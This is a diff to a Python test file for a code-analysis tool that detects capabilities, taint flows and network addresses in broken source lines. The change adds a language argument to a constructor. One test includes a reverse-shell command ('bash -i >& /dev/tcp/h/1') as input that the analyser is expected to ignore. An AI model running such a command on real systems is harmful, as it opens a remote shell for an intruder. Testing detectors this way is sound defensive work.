@@ -3,9 +3,9 @@
 from hypothesis import given
 from hypothesis import strategies as st
 
+from pratique.analysis.engine.gather import PYTHON, Facts
 from pratique.analysis.facts import Capability, Taint
 from pratique.analysis.languages.python.broken import read_broken
-from pratique.analysis.languages.python.gather import Facts
 from tests.analysis.languages.python.reading import facts
 
 BROKEN = """import os
@@ -27,7 +27,7 @@ def test_addresses_places_and_back_channels_of_broken_lines_are_told() -> None:
 
 
 def test_a_comment_and_a_plain_broken_line_say_nothing() -> None:
-    gathered = Facts()
+    gathered = Facts(PYTHON)
     read_broken([(1, "# bash -i >& /dev/tcp/h/1"), (2, "x = = 'ssh -i key'")], gathered)
     assert (gathered.uses, gathered.flows, gathered.addresses) == ({}, {}, {})
 
@@ -38,4 +38,4 @@ def test_a_file_of_python_2_is_not_broken() -> None:
 
 @given(st.lists(st.tuples(st.integers(1, 9), st.text(max_size=60))))
 def test_any_lines_are_read(lines: list[tuple[int, str]]) -> None:
-    read_broken(lines, Facts())
+    read_broken(lines, Facts(PYTHON))
